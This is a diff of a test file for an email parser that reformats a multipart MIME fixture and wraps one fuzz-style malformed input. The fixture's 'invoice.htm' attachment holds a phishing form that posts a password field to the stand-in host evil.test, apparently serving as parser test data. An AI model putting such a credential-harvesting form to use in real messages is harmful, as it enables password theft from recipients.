@@ -30,11 +30,30 @@ describe('parseMessage', () => {
   it('keeps small HTML attachments as text and only the size of binaries', async () => {
     const bin = 'A'.repeat(4000);
     const msg = [
-      'From: a@b.test', 'To: c@d.test', 'Subject: x', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b1"', '',
-      '--b1', 'Content-Type: text/plain; charset=utf-8', '', 'hello', '--b1',
-      'Content-Type: text/html; name="invoice.htm"', 'Content-Disposition: attachment; filename="invoice.htm"', 'Content-Transfer-Encoding: base64', '',
-      Buffer.from('<form action="https://evil.test/p"><input name=pw></form>').toString('base64'), '--b1',
-      'Content-Type: application/octet-stream', 'Content-Disposition: attachment; filename="a.bin"', 'Content-Transfer-Encoding: base64', '', bin, '--b1--', '',
+      'From: a@b.test',
+      'To: c@d.test',
+      'Subject: x',
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary="b1"',
+      '',
+      '--b1',
+      'Content-Type: text/plain; charset=utf-8',
+      '',
+      'hello',
+      '--b1',
+      'Content-Type: text/html; name="invoice.htm"',
+      'Content-Disposition: attachment; filename="invoice.htm"',
+      'Content-Transfer-Encoding: base64',
+      '',
+      Buffer.from('<form action="https://evil.test/p"><input name=pw></form>').toString('base64'),
+      '--b1',
+      'Content-Type: application/octet-stream',
+      'Content-Disposition: attachment; filename="a.bin"',
+      'Content-Transfer-Encoding: base64',
+      '',
+      bin,
+      '--b1--',
+      '',
     ].join('\n');
     const m = await parseMessage(enc(msg), DEFAULT_LIMITS);
     expect(m.text.trim()).toBe('hello');
@@ -51,7 +70,9 @@ describe('parseMessage', () => {
       new Uint8Array(0),
       enc('no headers at all'),
       enc('From: a@b.test\r\nContent-Type: text/plain; charset=x-bogus\r\n\r\n\u0000\u0000body'),
-      enc('From: a@b.test\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0b'),
+      enc(
+        'From: a@b.test\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\nPGh0b',
+      ),
       enc(nested.join('\r\n')),
     ];
     for (const c of cases) {
